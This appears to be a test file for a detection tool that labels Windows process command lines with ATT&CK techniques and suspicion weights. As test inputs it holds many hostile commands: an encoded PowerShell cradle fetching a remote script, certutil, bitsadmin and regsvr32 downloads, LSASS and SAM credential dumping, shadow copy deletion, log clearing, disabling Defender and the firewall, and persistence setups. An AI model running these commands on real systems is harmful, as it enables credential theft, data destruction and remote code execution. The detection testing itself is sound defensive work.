import { describe, expect, it } from 'vitest';
import { lookupTechnique } from '../../../core/enrich/attack-catalog.js';
import { createCommandLineEnricher } from '../../../core/enrich/command-line/command-line.js';
import { COMMAND_RULES, PARENT_CHILD_RULES } from '../../../core/enrich/command-line/command-line-rules.js';
import type { Finding } from '../../../core/enrich/enricher.js';
import { ATTACK_SUCCESSORS } from '../../../core/enrich/knowledge/technique-inference.js';
import { KNOWN_TOOLS } from '../../../core/enrich/knowledge/windows-binaries.js';
import { STAGING_FOLDERS } from '../../../core/enrich/knowledge/windows-paths.js';
import type { Alert, AlertInput } from '../../../core/spec/alert.js';
import { ConfigError } from '../../../core/spec/errors.js';
import { testAlert } from './test-alert.js';

const context = { timeMs: Date.parse('2026-03-02T09:15:00Z'), evidence: [] };
const enricher = createCommandLineEnricher();

function makeAlert(entities: AlertInput['entities'], fields: Record<string, string> = {}): Alert {
  return testAlert({ source: { platform: 'generic', product: 'Sysmon' }, title: 'Process creation', ruleName: 'Process creation', category: 'process_creation', entities, fields });
}

function processAlert(commandLine: string, properties: Record<string, string> = {}): Alert {
  return makeAlert([{ kind: 'process', role: 'actor', value: commandLine, properties: { commandLine, ...properties } }]);
}

const techniques = (findings: Finding[]): string[] => [...new Set(findings.flatMap((finding) => finding.attack ?? []))];
const total = (findings: Finding[]): number => findings.reduce((sum, finding) => sum + finding.weight, 0);
const rule = (findings: Finding[], id: string): Finding | undefined => findings.find((finding) => finding.refs.includes(`knowledge:${id}`));

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
/** UTF-16LE Base64 of: IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/stage.ps1') */
const ENCODED_CRADLE =
  'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBzAHQAYQBnAGUALgBwAHMAMQAnACkA';

describe('command-line enricher: encoded PowerShell', () => {
  it('decodes -EncodedCommand (UTF-16LE Base64), shows the text and analyses it', () => {
    const findings = enricher.enrich(processAlert(`powershell.exe -NoP -W Hidden -EncodedCommand ${ENCODED_CRADLE}`, { image: POWERSHELL }), context);
    const encoded = rule(findings, 'ps-encoded-command');
    expect(encoded?.detail).toBe("Decoded encoded command: IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/stage.ps1')");
    expect(encoded?.claim).toContain('IEX (New-Object Net.WebClient)');
    expect(encoded?.attack).toEqual(['T1059.001', 'T1027.010']);
    const cradle = rule(findings, 'ps-download-cradle');
    expect(cradle?.claim).toMatch(/^Decoded PowerShell runs PowerShell code fetched from the network/);
    expect(cradle?.refs[0]).toBe('entities[0].properties.commandLine (decoded)');
    expect(techniques(findings)).toEqual(expect.arrayContaining(['T1059.001', 'T1027.010', 'T1105', 'T1564.003']));
    expect(total(findings)).toBeGreaterThanOrEqual(3);
    expect(total(findings)).toBeLessThanOrEqual(4.5 + 1e-9);
  });

  it('accepts the shortest abbreviation and odd casing of the switch', () => {
    for (const flag of ['-e', '-EnC', '/ec', '-encodedcommand']) {
      const findings = enricher.enrich(processAlert(`powershell ${flag} ${ENCODED_CRADLE}`, { image: POWERSHELL }), context);
      expect(rule(findings, 'ps-encoded-command'), flag).toBeDefined();
    }
  });

  it('decodes a harmless command without inventing more than the encoding itself', () => {
    const findings = enricher.enrich(processAlert('powershell -enc RwBlAHQALQBEAGEAdABlAA==', { image: POWERSHELL }), context);
    expect(rule(findings, 'ps-encoded-command')?.detail).toBe('Decoded encoded command: Get-Date');
    expect(findings.filter((finding) => finding.weight !== 0)).toHaveLength(1);
  });

  it('does not treat -e on other programs as encoded PowerShell', () => {
    const findings = enricher.enrich(processAlert(`7z.exe x archive.7z -e ${ENCODED_CRADLE}`, { image: 'C:\\Program Files\\7-Zip\\7z.exe' }), context);
    expect(rule(findings, 'ps-encoded-command')).toBeUndefined();
  });
});

describe('command-line enricher: living off the land', () => {
  const cases: { name: string; commandLine: string; image: string; expected: string[]; minWeight: number }[] = [
    { name: 'shadow copy deletion through cmd', commandLine: 'cmd.exe /c "vssadmin.exe delete shadows /all /quiet"', image: 'C:\\Windows\\System32\\cmd.exe', expected: ['T1490'], minWeight: 2.5 },
    { name: 'wmic shadowcopy delete', commandLine: 'wmic shadowcopy delete /nointeractive', image: 'C:\\Windows\\System32\\wbem\\WMIC.exe', expected: ['T1490', 'T1047'], minWeight: 2.5 },
    {
      name: 'LSASS dump with comsvcs',
      commandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full',
      image: 'C:\\Windows\\System32\\rundll32.exe',
      expected: ['T1003.001', 'T1218.011'],
      minWeight: 2.5,
    },
    { name: 'procdump against lsass', commandLine: 'procdump64.exe -accepteula -ma lsass.exe C:\\temp\\out.dmp', image: 'C:\\Tools\\procdump64.exe', expected: ['T1003.001'], minWeight: 2.5 },
    {
      name: 'certutil download',
      commandLine: 'certutil.exe -urlcache -split -f http://203.0.113.9/p.exe C:\\Users\\Public\\p.exe',
      image: 'C:\\Windows\\System32\\certutil.exe',
      expected: ['T1105'],
      minWeight: 2,
    },
    { name: 'certutil decode', commandLine: 'certutil -decode payload.b64 payload.exe', image: 'C:\\Windows\\System32\\certutil.exe', expected: ['T1140'], minWeight: 1 },
    {
      name: 'bitsadmin transfer',
      commandLine: 'bitsadmin /transfer job /download /priority high http://203.0.113.9/a.exe C:\\Windows\\Temp\\a.exe',
      image: 'C:\\Windows\\System32\\bitsadmin.exe',
      expected: ['T1197', 'T1105'],
      minWeight: 1.5,
    },
    {
      name: 'regsvr32 Squiblydoo',
      commandLine: 'regsvr32 /s /n /u /i:http://203.0.113.9/file.sct scrobj.dll',
      image: 'C:\\Windows\\System32\\regsvr32.exe',
      expected: ['T1218.010', 'T1105'],
      minWeight: 2.5,
    },
    {
      name: 'mshta inline script',
      commandLine: 'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc"":close")',
      image: 'C:\\Windows\\System32\\mshta.exe',
      expected: ['T1218.005'],
      minWeight: 2.5,
    },
    { name: 'event log clearing', commandLine: 'wevtutil cl Security', image: 'C:\\Windows\\System32\\wevtutil.exe', expected: ['T1070.001', 'T1685.005'], minWeight: 2 },
    { name: 'recovery disabled', commandLine: 'bcdedit /set {default} recoveryenabled No', image: 'C:\\Windows\\System32\\bcdedit.exe', expected: ['T1490'], minWeight: 2.5 },
    {
      name: 'scheduled task running PowerShell from a staging folder',
      commandLine: 'schtasks /create /sc onlogon /tn Updater /tr "powershell -w hidden -f C:\\Users\\Public\\u.ps1"',
      image: 'C:\\Windows\\System32\\schtasks.exe',
      expected: ['T1053.005'],
      minWeight: 1.5,
    },
    {
      name: 'service pointing at cmd',
      commandLine: 'sc create evil binpath= "cmd.exe /c C:\\ProgramData\\x.exe" start= auto',
      image: 'C:\\Windows\\System32\\sc.exe',
      expected: ['T1543.003'],
      minWeight: 1.5,
    },
    { name: 'SAM hive saved', commandLine: 'reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save', image: 'C:\\Windows\\System32\\reg.exe', expected: ['T1003.002'], minWeight: 2.5 },
    {
      name: 'Run key persistence through reg add',
      commandLine: 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d "C:\\Users\\Public\\u.exe" /f',
      image: 'C:\\Windows\\System32\\reg.exe',
      expected: ['T1547.001', 'T1112'],
      minWeight: 1,
    },
    {
      name: 'Defender exclusion',
      commandLine: 'powershell -Command Add-MpPreference -ExclusionPath C:\\Users\\Public',
      image: POWERSHELL,
      expected: ['T1562.001', 'T1685', 'T1564.012'],
      minWeight: 2,
    },
    { name: 'firewall off', commandLine: 'netsh advfirewall set allprofiles state off', image: 'C:\\Windows\\System32\\netsh.exe', expected: ['T1562.004', 'T1686.003'], minWeight: 2.5 },
    { name: 'local admin added', commandLine: 'net localgroup administrators backdoor /add', image: 'C:\\Windows\\System32\\net.exe', expected: ['T1098.007'], minWeight: 1.5 },
    { name: 'domain trust discovery', commandLine: 'nltest /domain_trusts /all_trusts', image: 'C:\\Windows\\System32\\nltest.exe', expected: ['T1482'], minWeight: 1 },
    {
      name: 'GPP password hunt',
      commandLine: 'findstr /S /I cpassword \\\\corp.local\\sysvol\\corp.local\\policies\\*.xml',
      image: 'C:\\Windows\\System32\\findstr.exe',
      expected: ['T1552.006'],
      minWeight: 2,
    },
    { name: 'Office macro spawning PowerShell', commandLine: 'powershell.exe -c Get-Date', image: POWERSHELL, expected: ['T1204.002'], minWeight: 2 },
  ];
  for (const testCase of cases) {
    it(testCase.name, () => {
      const parentImage = testCase.name.startsWith('Office') ? 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE' : 'C:\\Windows\\System32\\cmd.exe';
      const findings = enricher.enrich(processAlert(testCase.commandLine, { image: testCase.image, parentImage }), context);
      expect(techniques(findings)).toEqual(expect.arrayContaining(testCase.expected));
      expect(total(findings)).toBeGreaterThanOrEqual(testCase.minWeight);
      for (const finding of findings) {
        expect(finding.claim).toMatch(/^[A-Z].*\.$/);
        expect(finding.refs.length).toBeGreaterThan(0);
      }
    });
  }

  it('quotes the matched fragment in the claim and truncates long fragments', () => {
    const findings = enricher.enrich(processAlert(`cmd /c vssadmin delete shadows /all /quiet & echo ${'x'.repeat(300)}`), context);
    expect(rule(findings, 'vssadmin-delete')?.claim).toBe('Command line deletes volume shadow copies ("delete shadows").');
    const short = createCommandLineEnricher({ maxQuoteLength: 20 });
    const claim = rule(short.enrich(processAlert('powershell -c "Invoke-Mimikatz -DumpCreds -ComputerName dc01.corp.local"'), context), 'ps-mimikatz')?.claim;
    expect(claim).toContain('("Invoke-Mimikatz")');
  });
});

describe('command-line enricher: images, parents and obfuscation', () => {
  it('flags a renamed Windows binary from OriginalFileName', () => {
    const findings = enricher.enrich(
      processAlert('C:\\Users\\bob\\AppData\\Local\\Temp\\svc.exe -urlcache -f http://203.0.113.9/a a', { image: 'C:\\Users\\bob\\AppData\\Local\\Temp\\svc.exe', originalFileName: 'CertUtil.exe' }),
      context,
    );
    expect(rule(findings, 'renamed-binary')?.attack).toEqual(['T1036.003']);
    expect(rule(findings, 'certutil-download')).toBeDefined();
  });

  it('accepts Windows binaries whose original name legitimately differs', () => {
    const findings = enricher.enrich(processAlert('gpresult /r', { image: 'C:\\Windows\\System32\\gpresult.exe', originalFileName: 'gprslt.exe' }), context);
    expect(rule(findings, 'renamed-binary')).toBeUndefined();
    const psexec = enricher.enrich(processAlert('PsExec64.exe -accepteula', { image: 'C:\\Tools\\PsExec64.exe', originalFileName: 'psexec.c' }), context);
    expect(rule(psexec, 'renamed-binary')).toBeUndefined();
  });

  it('flags svchost.exe running from a public folder', () => {
    const findings = enricher.enrich(processAlert('C:\\Users\\Public\\svchost.exe', { image: 'C:\\Users\\Public\\svchost.exe' }), context);
    expect(rule(findings, 'system-binary-location')?.attack).toEqual(['T1036.005']);
    expect(rule(findings, 'path-public')).toBeDefined();
  });

  it('flags caret obfuscation and environment-variable substrings', () => {
    const findings = enricher.enrich(processAlert('cmd /c p^o^w^e^r^s^h^e^l^l -c %COMSPEC:~-16,1%', { image: 'C:\\Windows\\System32\\cmd.exe' }), context);
    expect(rule(findings, 'obfuscation')?.claim).toContain('carets inside words');
    expect(rule(findings, 'cmd-env-substring')?.attack).toEqual(['T1027.010']);
  });

  it('flags a right-to-left override in the image name', () => {
    const image = 'C:\\Users\\bob\\Downloads\\invoice\u202Efdp.exe';
    const findings = enricher.enrich(processAlert(`"${image}"`, { image }), context);
    expect(rule(findings, 'rtlo-image')?.attack).toEqual(['T1036.002']);
    expect(rule(findings, 'rtlo-image')?.claim).toContain('\\u202e');
  });

  it('reads process fields from alert.fields when the entity carries only the command line', () => {
    const alert = makeAlert([{ kind: 'process', value: 'whoami /priv' }], { Image: 'C:\\Windows\\System32\\whoami.exe', ParentImage: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe' });
    const findings = enricher.enrich(alert, context);
    expect(rule(findings, 'parent-web-server')?.refs[0]).toBe('fields.ParentImage');
    expect(techniques(findings)).toEqual(expect.arrayContaining(['T1505.003', 'T1033']));
  });
});

describe('command-line enricher: calibration and shape', () => {
  it('gives a normal service host no positive weight', () => {
    const findings = enricher.enrich(
      processAlert('C:\\Windows\\system32\\svchost.exe -k netsvcs -p', {
        image: 'C:\\Windows\\System32\\svchost.exe',
        parentImage: 'C:\\Windows\\System32\\services.exe',
        originalFileName: 'svchost.exe',
      }),
      context,
    );
    expect(findings.every((finding) => finding.weight <= 0)).toBe(true);
    expect(findings[0]?.benignReason).toBe('expected_activity');
  });

  it('keeps ordinary admin commands weak', () => {
    for (const [commandLine, image] of [
      ['whoami', 'C:\\Windows\\System32\\whoami.exe'],
      ['ipconfig /all', 'C:\\Windows\\System32\\ipconfig.exe'],
      ['net use Z: \\\\fileserver\\share', 'C:\\Windows\\System32\\net.exe'],
      ['sc config WinDefend start= auto', 'C:\\Windows\\System32\\sc.exe'],
      ['powershell.exe -Command "Get-Service | Where-Object Status -eq Running"', POWERSHELL],
    ]) {
      const weight = total(enricher.enrich(processAlert(commandLine as string, { image: image as string }), context));
      expect(weight, commandLine).toBeLessThanOrEqual(0.5);
    }
    const whoami = enricher.enrich(processAlert('whoami', { image: 'C:\\Windows\\System32\\whoami.exe' }), context);
    expect(total(whoami)).toBeGreaterThanOrEqual(0.3);
    expect(techniques(whoami)).toEqual(['T1033']);
  });

  it('returns nothing for alerts without a process', () => {
    expect(enricher.enrich(makeAlert([{ kind: 'ip', value: '203.0.113.9' }]), context)).toEqual([]);
  });

  it('adds ATT&CK v19 successor ids only when asked', () => {
    const commandLine = 'powershell Set-MpPreference -DisableRealtimeMonitoring $true';
    expect(techniques(enricher.enrich(processAlert(commandLine, { image: POWERSHELL }), context))).toEqual(expect.arrayContaining(['T1562.001', 'T1685']));
    const plain = createCommandLineEnricher({ includeSuccessorIds: false });
    expect(techniques(plain.enrich(processAlert(commandLine, { image: POWERSHELL }), context))).not.toContain('T1685');
  });

  it('caps the summed weight of one process and keeps one finding per rule across processes', () => {
    const commandLine = `powershell -nop -w hidden -ep bypass -enc ${ENCODED_CRADLE}`;
    const alert = makeAlert([
      { kind: 'process', value: commandLine, properties: { commandLine, image: POWERSHELL, parentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE' } },
      { kind: 'process', value: `${commandLine} `, properties: { commandLine: `${commandLine} `, image: POWERSHELL } },
    ]);
    const findings = enricher.enrich(alert, context);
    expect(findings.filter((finding) => finding.refs.includes('knowledge:ps-encoded-command'))).toHaveLength(1);
    expect(total(findings)).toBeLessThanOrEqual(2 * 4.5);
  });

  it('returns fresh findings from its cache', () => {
    const alert = processAlert('vssadmin delete shadows /all', { image: 'C:\\Windows\\System32\\vssadmin.exe' });
    const first = enricher.enrich(alert, context);
    for (const finding of first) finding.weight = 99;
    const second = enricher.enrich(alert, context);
    expect(second.every((finding) => finding.weight < 99)).toBe(true);
    expect(createCommandLineEnricher({ cacheSize: 0 }).enrich(alert, context)).toEqual(second);
  });

  it('rejects unknown or out-of-range options with a ConfigError', () => {
    expect(() => createCommandLineEnricher({ maxQuoteLength: 2 })).toThrow(ConfigError);
    expect(() => createCommandLineEnricher({ unknown: true } as never)).toThrow(/enrichers\.command-line options are invalid/);
  });
});

describe('command-line knowledge tables', () => {
  const all = [...COMMAND_RULES, ...PARENT_CHILD_RULES, ...KNOWN_TOOLS, ...STAGING_FOLDERS];

  it('uses current ATT&CK ids from the catalog', () => {
    for (const entry of all) {
      for (const id of entry.techniques) {
        const technique = lookupTechnique(id);
        expect(technique, `${entry.id}: ${id}`).toBeDefined();
        expect(technique?.revoked || technique?.deprecated, `${entry.id}: ${id}`).toBe(false);
      }
    }
    for (const id of ATTACK_SUCCESSORS.keys()) expect(lookupTechnique(id)).toBeDefined();
  });

  it('has unique ids, calibrated weights and claims that continue a sentence', () => {
    const ids = all.map((entry) => entry.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const entry of all) {
      expect(entry.weight, entry.id).toBeGreaterThanOrEqual(0);
      expect(entry.weight, entry.id).toBeLessThanOrEqual(3);
      expect(entry.claim, entry.id).toMatch(/^[a-z].*[^.\s]$/);
    }
  });
});
